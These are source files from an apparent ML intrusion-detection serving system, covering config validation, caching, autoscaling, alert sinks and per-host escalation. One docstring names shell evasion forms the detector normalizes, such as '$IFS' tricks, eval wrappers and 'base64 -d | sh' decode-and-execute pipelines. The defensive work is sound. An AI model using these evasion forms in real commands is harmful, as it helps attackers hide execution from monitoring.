        self.metrics.session_evictions = self.sessions.evictions
        self.metrics.sync_cache(self.cache)
        latency = (time.perf_counter() - started) * 1000.0
        results = []
        for index, (raw, host, _) in enumerate(events):
            dropped = normalized[index] is None
            self.metrics.record_event(
                latency, dropped=dropped, cache_hit=cache_hits[index]
            )
            results.append(
                DetectionResult(
                    event_id=event_ids[index],
                    host=host,
                    raw_line=raw,
                    line=normalized[index] or "",
                    score=scores[index],
                    is_intrusion=bool(flags[index]),
                    dropped=dropped,
                    cache_hit=cache_hits[index],
                    latency_ms=latency,
                    alert=alerts[index],
                    generation=generations[index],
                    sequence_score=sequence_scores[index],
                )
            )
        return results
