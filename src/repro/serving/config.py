"""Typed, declarative configuration for the serving subsystem.

A deployment of the streaming detector used to be scattered across
``DetectionServer.__init__`` keyword arguments, a dozen CLI flags, and
hand-built sink lists.  This module makes the deployment a single
artifact: a frozen :class:`ServingConfig` tree that can be

- written as a TOML or JSON file and loaded with
  :meth:`ServingConfig.from_file` (``repro-ids serve --config serve.toml``),
- built programmatically (every node validates itself on construction,
  so an invalid config fails *before* the model bundle is loaded),
- round-tripped losslessly through :meth:`ServingConfig.to_dict` /
  :meth:`ServingConfig.from_dict` (``--print-config`` emits exactly
  this form), and
- recorded into a service bundle's metadata
  (:meth:`repro.ids.pipeline.IntrusionDetectionService.save`), so a
  bundle remembers the configuration it was served with.

Validation errors are :class:`~repro.errors.ConfigError` with the
dotted path of the offending key and, for typos, a "did you mean"
suggestion — the config file is an operator surface, so every error
must say what to fix.

Sinks are declared by URI (``ring://1024``, ``jsonl:///var/alerts.jsonl``,
``webhook://siem:8080/alerts``, ``tcp://collector:9000``) plus an
optional per-sink :class:`DeliveryPolicy` governing the durable
delivery pipeline (bounded queue, backpressure, retry/backoff,
dead-letter file) — see :mod:`repro.serving.delivery`.
"""

from __future__ import annotations

import difflib
import json
import tomllib
from dataclasses import dataclass, field, fields
from pathlib import Path
from typing import Any

from repro.errors import ConfigError
from repro.serving.cache import ADMISSION_POLICIES
from repro.serving.sessions import ESCALATION_MODES as SESSION_MODES

BACKEND_KINDS = ("auto", "inline", "threaded", "process")
ON_FULL_CHOICES = ("block", "drop")


# -- validation helpers ------------------------------------------------------


def _as_int(value: Any, path: str, minimum: int) -> int:
    if isinstance(value, bool) or not isinstance(value, int):
        raise ConfigError(f"{path} must be an integer (got {value!r})")
    if value < minimum:
        raise ConfigError(f"{path} must be >= {minimum} (got {value})")
    return value


def _as_float(value: Any, path: str, minimum: float, *, exclusive: bool = False) -> float:
    if isinstance(value, bool) or not isinstance(value, (int, float)):
        raise ConfigError(f"{path} must be a number (got {value!r})")
    value = float(value)
    if exclusive:
        if value <= minimum:
            raise ConfigError(f"{path} must be > {minimum} (got {value})")
    elif value < minimum:
        raise ConfigError(f"{path} must be >= {minimum} (got {value})")
    return value


def _as_bool(value: Any, path: str) -> bool:
    if not isinstance(value, bool):
        raise ConfigError(f"{path} must be a boolean (got {value!r})")
    return value


def _as_choice(value: Any, path: str, choices: tuple[str, ...]) -> str:
    if not isinstance(value, str):
        raise ConfigError(f"{path} must be a string (got {value!r})")
    if value not in choices:
        raise ConfigError(
            f"{path} must be one of {', '.join(repr(c) for c in choices)} (got {value!r})"
        )
    return value


def _require_mapping(data: Any, path: str) -> dict:
    if not isinstance(data, dict):
        raise ConfigError(
            f"{path} must be a table/object (got {type(data).__name__}: {data!r})"
        )
    return data


def _reject_unknown_keys(data: dict, known: tuple[str, ...], path: str) -> None:
    for key in data:
        if key not in known:
            close = difflib.get_close_matches(str(key), known, n=1)
            hint = f"; did you mean '{close[0]}'?" if close else ""
            raise ConfigError(
                f"{path}: unknown key '{key}' (valid keys: {', '.join(known)}){hint}"
            )


def _section(cls, data: dict, key: str, path: str):
    """Build sub-config *key* from *data*, or that section's defaults."""
    if key not in data:
        return cls()
    return cls.from_dict(data[key], path=f"{path}.{key}" if path else key)


# -- configuration nodes -----------------------------------------------------


@dataclass(frozen=True)
class BatchConfig:
    """Micro-batch policy: flush on size or on deadline, whichever first.

    ``columnar`` (default on) lets shards tokenize each deduplicated
    miss batch into one columnar :class:`~repro.tokenizer.columnar.TokenBatch`
    and score it through ``backend.score_batch`` — no per-line Python
    objects between the batcher and the embedding matmul.  Turning it
    off forces the per-line string path everywhere (the pre-columnar
    behaviour; scores are bitwise-identical either way).
    """

    max_batch: int = 32
    max_latency_ms: float = 25.0
    columnar: bool = True

    def __post_init__(self):
        _as_int(self.max_batch, "batch.max_batch", 1)
        object.__setattr__(
            self,
            "max_latency_ms",
            _as_float(self.max_latency_ms, "batch.max_latency_ms", 0.0, exclusive=True),
        )
        _as_bool(self.columnar, "batch.columnar")

    @classmethod
    def from_dict(cls, data: Any, path: str = "batch") -> "BatchConfig":
        data = _require_mapping(data, path)
        _reject_unknown_keys(data, ("max_batch", "max_latency_ms", "columnar"), path)
        return cls(**data)

    def to_dict(self) -> dict:
        return {
            "max_batch": self.max_batch,
            "max_latency_ms": self.max_latency_ms,
            "columnar": self.columnar,
        }


@dataclass(frozen=True)
class CanonicalizeConfig:
    """Shell canonicalization stage between normalization and caching.

    When ``enabled``, each normalized line is rewritten to canonical
    form by :class:`~repro.preprocess.Canonicalizer` *before* the score
    cache is consulted, so trivially rewritten variants of one command
    (quoting, ``$IFS`` tricks, ``env``/``command``/``eval`` wrappers,
    ``base64 -d | sh`` pipelines) collapse onto one cache entry and one
    token stream.  Disabled (the default), the stage is entirely absent
    and serving behaviour is byte-identical to the pre-canonicalization
    pipeline.

    ``decode_base64`` controls decode-exec pipeline flattening;
    ``max_passes`` bounds rewrite passes per line (cascaded wrappers
    resolve one layer per pass).
    """

    enabled: bool = False
    decode_base64: bool = True
    max_passes: int = 4

    def __post_init__(self):
        _as_bool(self.enabled, "canonicalize.enabled")
        _as_bool(self.decode_base64, "canonicalize.decode_base64")
        _as_int(self.max_passes, "canonicalize.max_passes", 1)

    @classmethod
    def from_dict(cls, data: Any, path: str = "canonicalize") -> "CanonicalizeConfig":
        data = _require_mapping(data, path)
        _reject_unknown_keys(data, ("enabled", "decode_base64", "max_passes"), path)
        return cls(**data)

    def to_dict(self) -> dict:
        return {
            "enabled": self.enabled,
            "decode_base64": self.decode_base64,
            "max_passes": self.max_passes,
        }


@dataclass(frozen=True)
class CacheConfig:
    """Score-cache policy: LRU size, optional TTL expiry, admission gate.

    ``size == 0`` disables caching entirely; ``ttl_seconds = None``
    keeps entries until LRU eviction or a model-generation bump.
    ``admission`` picks the insert policy: ``"lru"`` admits everything
    (pure recency), ``"tinylfu"`` gates inserts with a frequency sketch
    so Zipf-tail one-off lines cannot displace the hot set — see
    :class:`~repro.serving.cache.ScoreCache`.
    """

    size: int = 4096
    ttl_seconds: float | None = None
    admission: str = "lru"

    def __post_init__(self):
        _as_int(self.size, "cache.size", 0)
        if self.ttl_seconds is not None:
            object.__setattr__(
                self,
                "ttl_seconds",
                _as_float(self.ttl_seconds, "cache.ttl_seconds", 0.0, exclusive=True),
            )
        _as_choice(self.admission, "cache.admission", ADMISSION_POLICIES)

    @classmethod
    def from_dict(cls, data: Any, path: str = "cache") -> "CacheConfig":
        data = _require_mapping(data, path)
        _reject_unknown_keys(data, ("size", "ttl_seconds", "admission"), path)
        return cls(**data)

    def to_dict(self) -> dict:
        out: dict = {"size": self.size}
        if self.ttl_seconds is not None:
            out["ttl_seconds"] = self.ttl_seconds
        out["admission"] = self.admission
        return out


@dataclass(frozen=True)
class ShardConfig:
    """How many shard runtimes the server routes hosts across.

    ``count == 1`` (the default) is the single-path server — one
    batcher, one cache, one session table — and is behaviourally
    identical to the pre-shard runtime.  With ``count > 1`` each
    event's host is consistent-hashed onto one of *count*
    :class:`~repro.serving.shard.ShardRuntime`\\ s, so per-host session
    state stays shard-local while the scoring backend and the delivery
    pipeline remain shared.  ``virtual_nodes`` sets the hash-ring
    points per shard (more points → smoother host spread).
    """

    count: int = 1
    virtual_nodes: int = 64

    def __post_init__(self):
        _as_int(self.count, "shards.count", 1)
        if self.count > 1024:
            raise ConfigError(
                f"shards.count must be <= 1024 (got {self.count}); shards are "
                "event-loop partitions, not processes — more than cores buys nothing"
            )
        _as_int(self.virtual_nodes, "shards.virtual_nodes", 1)

    @classmethod
    def from_dict(cls, data: Any, path: str = "shards") -> "ShardConfig":
        data = _require_mapping(data, path)
        _reject_unknown_keys(data, ("count", "virtual_nodes"), path)
        return cls(**data)

    def to_dict(self) -> dict:
        return {"count": self.count, "virtual_nodes": self.virtual_nodes}


@dataclass(frozen=True)
class AutoscaleConfig:
    """Adaptive sizing of the scoring-backend worker pool.

    When ``enabled``, the server runs an
    :class:`~repro.serving.autoscale.Autoscaler` control loop that
    samples the serving plane every ``interval_seconds`` and resizes
    the backend between ``min_workers`` and ``max_workers``:

    - **scale up** when the queued backlog exceeds
      ``backlog_per_worker`` events per current worker, or the EWMA of
      batch scoring latency exceeds ``latency_high_ms``;
    - **scale down** when the *generation-scoped* cache hit rate is at
      least ``shrink_hit_rate`` and the backlog is quiet — repeats are
      being served from memory, so scoring parallelism is wasted;
    - after an applied resize, ``cooldown_intervals`` checks pass
      before the next change (no thrash on a bursty signal).

    ``max_workers = 0`` means "the machine decides": the core count at
    server start.  Requires a resizable backend (``threaded`` or
    ``process``); ``backend.kind = "auto"`` with autoscaling enabled
    resolves to ``threaded``.
    """

    enabled: bool = False
    min_workers: int = 1
    max_workers: int = 0
    interval_seconds: float = 0.25
    backlog_per_worker: int = 16
    latency_high_ms: float = 200.0
    shrink_hit_rate: float = 0.9
    cooldown_intervals: int = 4

    def __post_init__(self):
        _as_bool(self.enabled, "autoscale.enabled")
        _as_int(self.min_workers, "autoscale.min_workers", 1)
        _as_int(self.max_workers, "autoscale.max_workers", 0)
        if self.max_workers and self.max_workers < self.min_workers:
            raise ConfigError(
                f"autoscale.max_workers ({self.max_workers}) must be 0 (= cpu "
                f"count) or >= autoscale.min_workers ({self.min_workers})"
            )
        object.__setattr__(
            self,
            "interval_seconds",
            _as_float(self.interval_seconds, "autoscale.interval_seconds", 0.0, exclusive=True),
        )
        _as_int(self.backlog_per_worker, "autoscale.backlog_per_worker", 1)
        object.__setattr__(
            self,
            "latency_high_ms",
            _as_float(self.latency_high_ms, "autoscale.latency_high_ms", 0.0, exclusive=True),
        )
        object.__setattr__(
            self,
            "shrink_hit_rate",
            _as_float(self.shrink_hit_rate, "autoscale.shrink_hit_rate", 0.0),
        )
        if self.shrink_hit_rate > 1.0:
            raise ConfigError(
                f"autoscale.shrink_hit_rate must be <= 1 (a fraction; "
                f"got {self.shrink_hit_rate})"
            )
        _as_int(self.cooldown_intervals, "autoscale.cooldown_intervals", 0)

    @classmethod
    def from_dict(cls, data: Any, path: str = "autoscale") -> "AutoscaleConfig":
        data = _require_mapping(data, path)
        _reject_unknown_keys(data, tuple(f.name for f in fields(cls)), path)
        return cls(**data)

    def to_dict(self) -> dict:
        return {
            "enabled": self.enabled,
            "min_workers": self.min_workers,
            "max_workers": self.max_workers,
            "interval_seconds": self.interval_seconds,
            "backlog_per_worker": self.backlog_per_worker,
            "latency_high_ms": self.latency_high_ms,
            "shrink_hit_rate": self.shrink_hit_rate,
            "cooldown_intervals": self.cooldown_intervals,
        }


@dataclass(frozen=True)
class BackendConfig:
    """Where the LM forward pass runs and across how many workers.

    ``transport`` (process backend only) picks how columnar batches
    cross the worker boundary: ``"shm"`` publishes one shared-memory
    frame per batch, ``"pickle"`` ships the arrays in the task payload,
    ``"auto"`` (default) prefers shared memory when available — see
    :mod:`repro.serving.frames`.

    ``compiled`` routes model forwards through a graph-free
    :class:`~repro.nn.inference.InferencePlan` (prepacked weights,
    reused scratch buffers, no autograd tape).  Default on; models the
    compiler doesn't cover fall back to the Tensor path automatically,
    and ``compiled = false`` is byte-identical to the pre-compilation
    pipeline.  ``precision`` selects the plan's arithmetic:
    ``"float64"`` (default) is bitwise-identical to the Tensor path,
    ``"float32"`` trades ~1e-6 score drift for several-fold throughput.
    """

    kind: str = "auto"
    workers: int = 1
    transport: str = "auto"
    compiled: bool = True
    precision: str = "float64"

    def __post_init__(self):
        _as_choice(self.kind, "backend.kind", BACKEND_KINDS)
        _as_int(self.workers, "backend.workers", 1)
        from repro.serving.frames import FRAME_TRANSPORTS

        _as_choice(self.transport, "backend.transport", FRAME_TRANSPORTS)
        _as_bool(self.compiled, "backend.compiled")
        from repro.nn.inference import PRECISIONS

        _as_choice(self.precision, "backend.precision", PRECISIONS)

    @property
    def resolved_kind(self) -> str:
        """``kind`` with ``auto`` resolved against the worker count."""
        if self.kind != "auto":
            return self.kind
        return "inline" if self.workers == 1 else "process"

    @classmethod
    def from_dict(cls, data: Any, path: str = "backend") -> "BackendConfig":
        data = _require_mapping(data, path)
        _reject_unknown_keys(
            data, ("kind", "workers", "transport", "compiled", "precision"), path
        )
        return cls(**data)

    def to_dict(self) -> dict:
        return {
            "kind": self.kind,
            "workers": self.workers,
            "transport": self.transport,
            "compiled": self.compiled,
            "precision": self.precision,
        }


@dataclass(frozen=True)
class SessionConfig:
    """Per-host escalation policy.

    Attributes
    ----------
    window_seconds / escalation_threshold:
        The rolling alert-count window: a host escalates once
        ``escalation_threshold`` alerts land within ``window_seconds``
        (modes ``count`` and ``hybrid``).
    mode:
        ``"count"`` — rate threshold only; ``"sequence"`` — on each
        flagged event, compose the host's recent command window and
        score it with the bundle's multi-line head, escalating at
        ``sequence_threshold``; ``"hybrid"`` — either trigger.  The
        sequence modes require a bundle saved with a ``multiline/``
        head directory.
    sequence_threshold:
        Sequence score in ``[0, 1]`` at which a host escalates.
    context_window / context_max_gap_seconds:
        Composition semantics of the per-host window (lines per
        composed input; maximum age of a context line relative to the
        flagged line) — mirrors the batch
        :class:`~repro.tuning.multiline.MultiLineComposer`.
    max_hosts:
        Bound on tracked hosts; the least recently seen host is evicted
        beyond it (evictions are counted in the serving metrics).
    """

    window_seconds: float = 300.0
    escalation_threshold: int = 5
    mode: str = "count"
    sequence_threshold: float = 0.5
    context_window: int = 3
    context_max_gap_seconds: float = 180.0
    max_hosts: int = 100_000

    def __post_init__(self):
        object.__setattr__(
            self,
            "window_seconds",
            _as_float(self.window_seconds, "session.window_seconds", 0.0, exclusive=True),
        )
        _as_int(self.escalation_threshold, "session.escalation_threshold", 1)
        _as_choice(self.mode, "session.mode", SESSION_MODES)
        object.__setattr__(
            self,
            "sequence_threshold",
            _as_float(self.sequence_threshold, "session.sequence_threshold", 0.0),
        )
        if self.sequence_threshold > 1.0:
            raise ConfigError(
                f"session.sequence_threshold must be <= 1 (a probability; "
                f"got {self.sequence_threshold})"
            )
        _as_int(self.context_window, "session.context_window", 1)
        object.__setattr__(
            self,
            "context_max_gap_seconds",
            _as_float(
                self.context_max_gap_seconds,
                "session.context_max_gap_seconds",
                0.0,
                exclusive=True,
            ),
        )
        _as_int(self.max_hosts, "session.max_hosts", 1)

    @classmethod
    def from_dict(cls, data: Any, path: str = "session") -> "SessionConfig":
        data = _require_mapping(data, path)
        _reject_unknown_keys(
            data,
            (
                "window_seconds",
                "escalation_threshold",
                "mode",
                "sequence_threshold",
                "context_window",
                "context_max_gap_seconds",
                "max_hosts",
            ),
            path,
        )
        return cls(**data)

    def to_dict(self) -> dict:
        return {
            "window_seconds": self.window_seconds,
            "escalation_threshold": self.escalation_threshold,
            "mode": self.mode,
            "sequence_threshold": self.sequence_threshold,
            "context_window": self.context_window,
            "context_max_gap_seconds": self.context_max_gap_seconds,
            "max_hosts": self.max_hosts,
        }


@dataclass(frozen=True)
class DeliveryPolicy:
    """Per-sink durable-delivery knobs (see :mod:`repro.serving.delivery`).

    Attributes
    ----------
    queue_size:
        Bound on the sink's in-memory delivery queue.
    on_full:
        ``"block"`` applies backpressure to the emitter when the queue
        is full — in the streaming server that means **event submission
        itself stalls** until the sink catches up, trading throughput
        for zero alert loss; ``"drop"`` sheds the alert instead
        (counted, never silent) and keeps the scoring path unblocked.
        Size the queue for the longest outage ``"block"`` should absorb
        without throttling intake.
    max_retries:
        Delivery attempts beyond the first before a batch is
        dead-lettered.
    backoff_ms / backoff_multiplier / max_backoff_ms:
        Exponential backoff between attempts:
        ``min(backoff_ms * multiplier**attempt, max_backoff_ms)``.
    dead_letter_path:
        JSONL file receiving alerts that exhausted their retries
        (``None``: dead-lettered alerts are only counted).
    """

    queue_size: int = 1024
    on_full: str = "block"
    max_retries: int = 3
    backoff_ms: float = 50.0
    backoff_multiplier: float = 2.0
    max_backoff_ms: float = 5000.0
    dead_letter_path: str | None = None

    def __post_init__(self):
        _as_int(self.queue_size, "policy.queue_size", 1)
        _as_choice(self.on_full, "policy.on_full", ON_FULL_CHOICES)
        _as_int(self.max_retries, "policy.max_retries", 0)
        object.__setattr__(
            self, "backoff_ms", _as_float(self.backoff_ms, "policy.backoff_ms", 0.0)
        )
        object.__setattr__(
            self,
            "backoff_multiplier",
            _as_float(self.backoff_multiplier, "policy.backoff_multiplier", 1.0),
        )
        object.__setattr__(
            self,
            "max_backoff_ms",
            _as_float(self.max_backoff_ms, "policy.max_backoff_ms", 0.0),
        )
        if self.dead_letter_path is not None and not isinstance(self.dead_letter_path, str):
            raise ConfigError(
                f"policy.dead_letter_path must be a string path "
                f"(got {self.dead_letter_path!r})"
            )

    @classmethod
    def from_dict(cls, data: Any, path: str = "policy") -> "DeliveryPolicy":
        data = _require_mapping(data, path)
        _reject_unknown_keys(data, tuple(f.name for f in fields(cls)), path)
        return cls(**data)

    def to_dict(self) -> dict:
        out = {
            "queue_size": self.queue_size,
            "on_full": self.on_full,
            "max_retries": self.max_retries,
            "backoff_ms": self.backoff_ms,
            "backoff_multiplier": self.backoff_multiplier,
            "max_backoff_ms": self.max_backoff_ms,
        }
        if self.dead_letter_path is not None:
            out["dead_letter_path"] = self.dead_letter_path
        return out


@dataclass(frozen=True)
class SinkSpec:
    """One alert sink, addressed by URI, with its delivery policy.

    The URI scheme must be registered in the default sink registry
    (:data:`repro.serving.sinks.DEFAULT_SINK_REGISTRY`) — register
    custom schemes *before* constructing specs that use them.
    """

    uri: str
    name: str | None = None
    policy: DeliveryPolicy = field(default_factory=DeliveryPolicy)

    def __post_init__(self):
        if not isinstance(self.uri, str) or "://" not in self.uri:
            raise ConfigError(
                f"sink uri must be a '<scheme>://...' string, e.g. 'ring://1024' "
                f"(got {self.uri!r})"
            )
        # fail at config time, not at server boot: an unknown scheme in
        # a deployment file should be caught by --print-config / tests
        from repro.serving.sinks import DEFAULT_SINK_REGISTRY

        scheme = self.uri.split("://", 1)[0].lower()
        if scheme not in DEFAULT_SINK_REGISTRY.schemes():
            raise ConfigError(
                f"sink uri {self.uri!r}: unknown scheme '{scheme}' "
                f"(known schemes: {', '.join(DEFAULT_SINK_REGISTRY.schemes())})"
            )
        if self.name is not None and not isinstance(self.name, str):
            raise ConfigError(f"sink name must be a string (got {self.name!r})")
        if not isinstance(self.policy, DeliveryPolicy):
            raise ConfigError(
                f"sink policy must be a DeliveryPolicy (got {self.policy!r})"
            )

    @classmethod
    def from_dict(cls, data: Any, path: str = "sinks[?]") -> "SinkSpec":
        if isinstance(data, str):
            # shorthand: a bare URI string
            return cls(uri=data)
        data = _require_mapping(data, path)
        _reject_unknown_keys(data, ("uri", "name", "policy"), path)
        if "uri" not in data:
            raise ConfigError(f"{path}: a sink needs a 'uri' (e.g. uri = \"ring://1024\")")
        policy = DeliveryPolicy.from_dict(data.get("policy", {}), path=f"{path}.policy")
        return cls(uri=data["uri"], name=data.get("name"), policy=policy)

    def to_dict(self) -> dict:
        out: dict = {"uri": self.uri}
        if self.name is not None:
            out["name"] = self.name
        out["policy"] = self.policy.to_dict()
        return out


@dataclass(frozen=True)
class ServingConfig:
    """The full, typed description of one detection-server deployment.

    Example
    -------
    >>> config = ServingConfig.from_file("examples/serve.toml")   # doctest: +SKIP
    >>> server = DetectionServer.from_config("bundle/", config)   # doctest: +SKIP
    """

    batch: BatchConfig = field(default_factory=BatchConfig)
    canonicalize: CanonicalizeConfig = field(default_factory=CanonicalizeConfig)
    cache: CacheConfig = field(default_factory=CacheConfig)
    backend: BackendConfig = field(default_factory=BackendConfig)
    session: SessionConfig = field(default_factory=SessionConfig)
    shards: ShardConfig = field(default_factory=ShardConfig)
    autoscale: AutoscaleConfig = field(default_factory=AutoscaleConfig)
    sinks: tuple[SinkSpec, ...] = ()
    concurrency: int = 8

    def __post_init__(self):
        for attr, cls in (
            ("batch", BatchConfig),
            ("canonicalize", CanonicalizeConfig),
            ("cache", CacheConfig),
            ("backend", BackendConfig),
            ("session", SessionConfig),
            ("shards", ShardConfig),
            ("autoscale", AutoscaleConfig),
        ):
            if not isinstance(getattr(self, attr), cls):
                raise ConfigError(
                    f"{attr} must be a {cls.__name__} (got {getattr(self, attr)!r})"
                )
        sinks = tuple(self.sinks)
        for spec in sinks:
            if not isinstance(spec, SinkSpec):
                raise ConfigError(f"sinks entries must be SinkSpec (got {spec!r})")
        object.__setattr__(self, "sinks", sinks)
        _as_int(self.concurrency, "concurrency", 1)

    # -- construction --------------------------------------------------------

    @classmethod
    def from_dict(cls, data: Any, path: str = "") -> "ServingConfig":
        """Build a config from a plain nested dict, strictly validated.

        Unknown keys, wrong types, and out-of-range values raise
        :class:`~repro.errors.ConfigError` naming the dotted path of
        the offending key.  ``from_dict(cfg.to_dict()) == cfg`` holds
        for every valid config (lossless round-trip).
        """
        root = path or "serving config"
        data = _require_mapping(data, root)
        _reject_unknown_keys(
            data,
            (
                "batch",
                "canonicalize",
                "cache",
                "backend",
                "session",
                "shards",
                "autoscale",
                "sinks",
                "concurrency",
            ),
            root,
        )
        raw_sinks = data.get("sinks", [])
        if not isinstance(raw_sinks, (list, tuple)):
            raise ConfigError(
                f"sinks must be an array of sink tables or URI strings "
                f"(got {raw_sinks!r})"
            )
        sinks = tuple(
            SinkSpec.from_dict(entry, path=f"sinks[{index}]")
            for index, entry in enumerate(raw_sinks)
        )
        return cls(
            batch=_section(BatchConfig, data, "batch", path),
            canonicalize=_section(CanonicalizeConfig, data, "canonicalize", path),
            cache=_section(CacheConfig, data, "cache", path),
            backend=_section(BackendConfig, data, "backend", path),
            session=_section(SessionConfig, data, "session", path),
            shards=_section(ShardConfig, data, "shards", path),
            autoscale=_section(AutoscaleConfig, data, "autoscale", path),
            sinks=sinks,
            concurrency=data.get("concurrency", 8),
        )

    @classmethod
    def from_file(cls, path: str | Path) -> "ServingConfig":
        """Load a config file; the format follows the extension.

        ``.toml`` parses with :mod:`tomllib`, ``.json`` with
        :mod:`json`; anything else is rejected with an actionable
        error.  The file's top level *is* the serving config (tables
        ``batch`` / ``cache`` / ``backend`` / ``session`` / ``shards``
        / ``autoscale``, array ``sinks``, scalar ``concurrency``).
        """
        path = Path(path)
        suffix = path.suffix.lower()
        if suffix not in (".toml", ".json"):
            raise ConfigError(
                f"config file must end in .toml or .json (got '{path}')"
            )
        try:
            text = path.read_bytes()
        except OSError as exc:
            raise ConfigError(f"cannot read config file {path}: {exc}") from exc
        try:
            if suffix == ".toml":
                data = tomllib.loads(text.decode("utf-8"))
            else:
                data = json.loads(text.decode("utf-8"))
        except (tomllib.TOMLDecodeError, json.JSONDecodeError, UnicodeDecodeError) as exc:
            raise ConfigError(f"config file {path} does not parse: {exc}") from exc
        return cls.from_dict(data, path=str(path))

    # -- serialisation -------------------------------------------------------

    def to_dict(self) -> dict:
        """Plain nested dict: JSON/TOML-serialisable, losslessly
        re-loadable with :meth:`from_dict` (``None`` fields are omitted
        so the dict also survives TOML, which has no null)."""
        return {
            "batch": self.batch.to_dict(),
            "canonicalize": self.canonicalize.to_dict(),
            "cache": self.cache.to_dict(),
            "backend": self.backend.to_dict(),
            "session": self.session.to_dict(),
            "shards": self.shards.to_dict(),
            "autoscale": self.autoscale.to_dict(),
            "sinks": [spec.to_dict() for spec in self.sinks],
            "concurrency": self.concurrency,
        }

    def to_json(self, indent: int = 2) -> str:
        """The ``--print-config`` form: sorted-key JSON of :meth:`to_dict`."""
        return json.dumps(self.to_dict(), indent=indent, sort_keys=True)


def load_recorded_config(bundle_dir: str | Path) -> ServingConfig | None:
    """The serving config recorded in a bundle's metadata, if any.

    :meth:`IntrusionDetectionService.save` embeds the config under the
    ``serving_config`` key of ``service.json``; this reads it back
    without deserializing the model.  Returns ``None`` when the bundle
    has no metadata file or no recorded config; raises
    :class:`~repro.errors.ConfigError` when a recorded config exists
    but no longer validates.
    """
    meta_path = Path(bundle_dir) / "service.json"
    try:
        meta = json.loads(meta_path.read_text())
    except (OSError, json.JSONDecodeError):
        return None
    recorded = meta.get("serving_config")
    if recorded is None:
        return None
    return ServingConfig.from_dict(recorded, path=f"{meta_path}:serving_config")
