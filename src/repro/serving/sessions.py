"""Per-host session state with policy-driven escalation.

A single flagged command is an alert; what makes one an *incident* is
policy.  The aggregator keeps, per host, a rolling window of recent
alert timestamps **and** a bounded window of the host's recent
normalized command lines, and supports three escalation modes:

``count``
    The original rate policy: escalate once the number of alerts inside
    the rolling window crosses a threshold.
``sequence``
    The paper's Section IV-C insight brought to serving: on each flagged
    event the host's recent command window is composed with the ``;``
    separator (same window/max-gap semantics as the batch
    :class:`~repro.tuning.multiline.MultiLineComposer`) and scored by a
    second-stage multi-line head; escalate when that sequence score
    crosses ``sequence_threshold``.  A low-and-slow attacker whose alert
    *rate* stays under the count threshold still escalates when the
    composed context reads as an attack sequence.
``hybrid``
    Either trigger escalates.

Escalation stays sticky: once a host escalates it remains escalated for
the lifetime of the aggregator (incident response owns de-escalation).
Two production hardenings ride along: hosts are evicted LRU on last-seen
once ``max_hosts`` is exceeded (a million-host fleet must not grow
memory without bound), and out-of-order timestamps are clamped to the
newest timestamp seen per host so a late event can neither corrupt the
rolling window's ordering nor strand stale entries in it.
"""

from __future__ import annotations

from collections import OrderedDict, deque
from dataclasses import dataclass, field

from repro.tuning.multiline import compose_window

#: Valid escalation policies, in increasing order of model involvement.
ESCALATION_MODES = ("count", "sequence", "hybrid")


@dataclass
class HostSession:
    """Rolling state for one host's command stream.

    Attributes
    ----------
    events / alerts:
        Lifetime totals for the host.
    escalated / escalated_at / escalated_by:
        Sticky escalation state; ``escalated_by`` records which policy
        fired (``"count"`` or ``"sequence"``).
    last_seen:
        Newest (clamped) timestamp observed for the host — the horizon
        all window pruning is measured against.
    sequence_score:
        Most recent second-stage sequence score, if any.
    window:
        Rolling deque of in-window alert timestamps.
    context:
        Bounded deque of recent ``(timestamp, normalized_line)`` pairs —
        the per-host feed the sequence stage composes over.
    """

    host: str
    events: int = 0
    alerts: int = 0
    escalated: bool = False
    escalated_at: float | None = None
    escalated_by: str | None = None
    last_seen: float = float("-inf")
    sequence_score: float | None = None
    window: deque = field(default_factory=deque, repr=False)
    context: deque = field(default_factory=deque, repr=False)

    def alerts_in_window(self) -> int:
        """Alerts currently inside the rolling window."""
        return len(self.window)

    def context_lines(self) -> list[str]:
        """The host's retained recent command lines, oldest first."""
        return [line for _, line in self.context]


class SessionAggregator:
    """Track per-host state and escalate hosts by the configured policy.

    Parameters
    ----------
    window_seconds:
        Width of the rolling window alert timestamps are counted over.
    escalation_threshold:
        Alerts inside the window at which a host escalates under the
        ``count`` / ``hybrid`` policies.
    mode:
        One of :data:`ESCALATION_MODES`.
    sequence_threshold:
        Sequence score at which a host escalates under the ``sequence``
        / ``hybrid`` policies.
    context_window:
        Lines per composed context window (the paper uses three).
    context_max_gap_seconds:
        Maximum age of a context line relative to the flagged line —
        "if their execution time is not too long ago".
    max_hosts:
        Bound on tracked hosts; exceeding it evicts the least recently
        seen **non-escalated** host (``evictions`` counts them) — an
        escalated host keeps its sticky state through fleet churn, and
        is only dropped when every tracked host is escalated.
    """

    def __init__(
        self,
        window_seconds: float = 300.0,
        escalation_threshold: int = 5,
        *,
        mode: str = "count",
        sequence_threshold: float = 0.5,
        context_window: int = 3,
        context_max_gap_seconds: float = 180.0,
        max_hosts: int = 100_000,
    ):
        if window_seconds <= 0:
            raise ValueError("window_seconds must be positive")
        if escalation_threshold < 1:
            raise ValueError("escalation_threshold must be >= 1")
        if mode not in ESCALATION_MODES:
            raise ValueError(f"mode must be one of {ESCALATION_MODES} (got {mode!r})")
        if context_window < 1:
            raise ValueError("context_window must be >= 1")
        if context_max_gap_seconds <= 0:
            raise ValueError("context_max_gap_seconds must be positive")
        if max_hosts < 1:
            raise ValueError("max_hosts must be >= 1")
        self.window_seconds = window_seconds
        self.escalation_threshold = escalation_threshold
        self.mode = mode
        self.sequence_threshold = float(sequence_threshold)
        self.context_window = context_window
        self.context_max_gap_seconds = float(context_max_gap_seconds)
        self.max_hosts = max_hosts
        #: Hosts evicted to honour ``max_hosts``, lifetime total.
        self.evictions = 0
        # ordered oldest-seen first: observe() re-appends, so the front
        # is always the least recently seen host (LRU eviction order)
        self._sessions: OrderedDict[str, HostSession] = OrderedDict()

    def observe(
        self, host: str, timestamp: float, is_alert: bool, line: str | None = None
    ) -> tuple[HostSession, bool]:
        """Account one event; returns ``(session, newly_escalated)``.

        ``newly_escalated`` is true only on the exact event that pushed
        the host over the **count** threshold (and only in the ``count``
        / ``hybrid`` modes), so callers can emit one escalation notice
        per incident.  Sequence escalation is reported separately by
        :meth:`record_sequence_score`, after the caller has scored the
        composed context.

        *line* (the normalized command) feeds the host's context window;
        pass it for every event — benign lines are context too, exactly
        as in the batch composer.

        A *timestamp* older than the newest one seen for the host is
        clamped forward to it: late events count as arriving "now", so
        the rolling window stays sorted and can never retain an entry
        older than ``window_seconds`` behind the host's horizon.
        """
        session = self._sessions.get(host)
        if session is None:
            session = self._sessions[host] = HostSession(host=host)
            self._evict_idle(current=host)
        else:
            self._sessions.move_to_end(host)
        timestamp = max(float(timestamp), session.last_seen)
        session.last_seen = timestamp
        session.events += 1
        if line is not None:
